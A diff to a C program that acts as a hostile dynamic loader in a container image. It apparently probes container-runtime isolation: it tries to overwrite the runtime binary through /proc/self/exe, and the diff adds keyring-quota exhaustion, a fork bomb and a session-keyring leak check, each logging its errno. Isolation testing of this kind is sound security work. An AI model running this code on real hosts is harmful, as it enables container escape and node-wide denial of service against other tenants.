@@ -1,7 +1,8 @@
 /*
  * What a hostile image brings as its dynamic loader: run by the kernel for any dynamic program of the node that is executed in the
  * container, such as the OCI runtime by /proc/self/exe. It tries to change the file that it runs as, and its standard input, in every
- * way, and says what came of it: a name and an errno a line. "hold" as its last argument: it stays, with all that it got.
+ * way, and says what came of it: a name and an errno a line. "hold" as its last argument: it stays, with all that it got. "keys" and
+ * "processes" use up all there are, "session" tells its session keyring.
  *
  * Without a C library, whose start would take the program's headers for its own.
  */
@@ -17,6 +18,9 @@
 #define FS_IOC_SETFLAGS 0x40086602
 #define FS_IMMUTABLE_FL 0x10
 #define NR_fchmodat2 452
+#define KEYCTL_GET_KEYRING_ID 0
+#define KEY_SPEC_PROCESS_KEYRING -2
+#define KEY_SPEC_SESSION_KEYRING -3
 
 /* Kernels before 6.8 run no loader whose last segment can't be written to: they fill up its page. */
 __attribute__((used)) static int data = 1;
@@ -79,6 +83,36 @@ static void attack(const char *what, const char *path, long fd, long mode)
 	say(what, "setflags", call(__NR_ioctl, fd, FS_IOC_SETFLAGS, (long)&flags, 0, 0));
 }
 
+/* All that the kernel lets this user have, on the whole node: to the last byte. */
+static void use_up_keys(void)
+{
+	static char content[32000];
+	char name[] = "key-000000";
+	long size = sizeof(content), result, digit;
+	for (;;) {
+		for (digit = 9; ++name[digit] > '9'; digit--)
+			name[digit] = '0';
+		result = call(__NR_add_key, (long)"user", (long)name, (long)content, size, KEY_SPEC_PROCESS_KEYRING);
+		if (result < 0 && size > 1)
+			size /= 2;
+		else if (result < 0)
+			break;
+	}
+	say("keys", "last", result);
+}
+
+/* All that the node has left, or the container's limit. */
+static void use_up_processes(void)
+{
+	long result;
+	do {
+		result = call(__NR_fork, 0, 0, 0, 0, 0);
+		while (result == 0)
+			call(__NR_pause, 0, 0, 0, 0, 0);
+	} while (result > 0);
+	say("processes", "last", result);
+}
+
 __attribute__((used, noreturn)) static void run(long *stack)
 {
 	long count = *stack, fd;
@@ -90,6 +124,12 @@ __attribute__((used, noreturn)) static void run(long *stack)
 		say("exe", "write", call(__NR_open, (long)exe, O_WRONLY, 0, 0, 0));
 		say("exe", "truncate", call(__NR_truncate, (long)exe, 0, 0, 0, 0));
 		say("exe", "lease", call(__NR_fcntl, fd, F_SETLEASE, F_WRLCK, 0, 0));
+	} else if (count > 1 && same(words[1], "keys")) {
+		use_up_keys();
+	} else if (count > 1 && same(words[1], "processes")) {
+		use_up_processes();
+	} else if (count > 1 && same(words[1], "session")) {
+		say("session", "keyring", -call(__NR_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0, 0, 0));
 	} else if (count > 1 && same(words[1], "stdin")) {
 		attack("stdin", "/proc/self/fd/0", 0, 0667);
 	}
